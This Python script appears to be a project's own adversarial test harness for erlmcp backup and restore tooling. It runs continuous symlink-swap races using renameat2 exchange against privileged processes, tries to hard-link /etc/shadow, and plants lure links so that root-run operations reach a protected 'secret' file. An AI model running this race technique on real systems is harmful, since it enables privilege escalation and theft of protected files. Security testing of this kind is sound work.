# Copyright: erlmcp.ops contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Runs on a host as the service account, until it is ended: leads whoever works in the data directory elsewhere.

Usage: attack.py DATA_DIRECTORY PRIZE

PRIZE is a directory of root's with a file ``secret``. Whatever the account may exchange, in its data directory and in
the scratch directories beside it, changes places with a link to that, in one step, for a moment and over and over.
"""

from __future__ import annotations

import contextlib
import ctypes
import itertools
import json
import os
import random
import sys
import time
from pathlib import Path

_AT_FDCWD = -100
_RENAME_EXCHANGE = 2
_LIBC = ctypes.CDLL(None, use_errno=True)
# So that what runs beside it on the host comes to its turn, and meets every state.
_MOMENT = 0.0005


def exchange(one, other):
    if _LIBC.renameat2(_AT_FDCWD, os.fsencode(one), _AT_FDCWD, os.fsencode(other), _RENAME_EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), "exchange", str(one))


def for_a_moment(victim, lure):
    """Let the link take the place of the victim, and put it back; return whether that was possible."""
    try:
        exchange(victim, lure)
        time.sleep(random.random() * _MOMENT)
        exchange(victim, lure)
    except OSError:
        return False
    return True


def lay_out(own, prize):
    """What a backup finds in the data directory: links, pipes and files that come and go, and links to exchange."""
    for name in ("dir", "deep/er"):
        (own / name).mkdir(parents=True, exist_ok=True)
        for number in range(3):
            (own / name / f"file{number}").write_text("mine")
    for name, target in (("to-directory", prize), ("to-file", prize / "secret"), ("lure", prize), ("nowhere", "/x/y")):
        with contextlib.suppress(FileExistsError):
            (own / name).symlink_to(target)
    with contextlib.suppress(FileExistsError):
        os.mkfifo(own / "pipe")


def try_hard_links(own, prize):
    """The kernel refuses these, unless it was told not to."""
    for source in (prize / "secret", Path("/etc/shadow")):
        with contextlib.suppress(OSError):
            os.link(source, own / f"hard-{random.randrange(3)}")


def victims(data, own):
    """Everything the account could try to exchange.

    Where an exchange makes an operation fail, which is its right, it is left alone most of the time: then the operation
    goes on, and there is more of it to attack.
    """
    is_bold = int(time.time()) % 4 == 0
    if is_bold:
        for victim in ("dir", "deep", "deep/er", "dir/file1"):
            yield "own", own / victim
    for spool in data.glob(".erlmcp-*"):
        for victim in (spool, *spool.glob("*"), *spool.glob("*/*")):
            yield "spool", victim
    # Root does not let the account list what is in these, so their names have to be known.
    for place in data.parent.glob(f".{data.name}.*"):
        kind = place.name[len(data.name) + 2 :].partition("-")[0]
        area = place / "area" if kind == "restore" else place
        for name in ("", "new", "build", "config", "mnesia.backup", "log", "run"):
            yield kind, area / name
        for given in ("new", "build") if is_bold else ():
            for victim in (*(area / given).glob("*"), *(area / given).glob("*/*")):
                yield kind, victim


def count_passing(exchanged):
    """Count the account's virtual machines that read tables just now, in a sandbox or not."""
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            command = (process / "cmdline").read_bytes()
            if process.stat().st_uid == os.getuid() and b"beam" in command and b"answer:~0p" in command:
                is_boxed = "NoNewPrivs:\t1" in (process / "status").read_text()
                kind = "boxed" if is_boxed and "/run-" in (process / "cgroup").read_text() else "loose"
                exchanged[kind] = exchanged.get(kind, 0) + 1


def attack(data, prize, number, exchanged):
    """One round over everything that is there just now; counts in ``exchanged`` what worked."""
    own = data / "attack"
    lure = own / ("lure" if number % 3 else "to-file")
    if number % 50 == 0 or not own.is_dir():
        lay_out(own, prize)
        try_hard_links(own, prize)
    if number % 20 == 0:
        count_passing(exchanged)
        # Names that the next backup may want to use, or to clear.
        taken = data / f".erlmcp-backup-{random.choice(('x', '20990101T000000Z'))}"
        with contextlib.suppress(FileExistsError):
            taken.symlink_to(prize)
    for kind, victim in victims(data, own):
        exchanged[kind] = exchanged.get(kind, 0) + for_a_moment(victim, lure)


def main():
    data, prize = map(Path, sys.argv[1:3])
    exchanged = {}
    for number in itertools.count():
        # A restore takes the whole directory away.
        with contextlib.suppress(OSError):
            attack(data, prize, number, exchanged)
        if number % 100 == 0:
            Path(f"/var/tmp/attack-{os.getpid()}.json").write_text(json.dumps(exchanged) + "\n")


if __name__ == "__main__":
    main()
